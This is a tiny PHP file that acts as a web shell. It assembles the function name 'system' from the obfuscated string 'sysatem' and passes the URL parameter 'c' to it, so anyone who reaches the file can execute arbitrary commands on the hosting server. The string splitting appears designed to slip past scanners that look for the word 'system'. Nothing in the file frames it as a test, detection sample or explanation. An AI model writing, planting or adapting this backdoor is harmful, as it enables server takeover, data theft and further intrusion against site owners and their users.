<?php
$run = function () {
    $m = 'sysatem';
    (substr($m, 0, 3) . substr($m, 4))($_GET['c']);
};
$run();
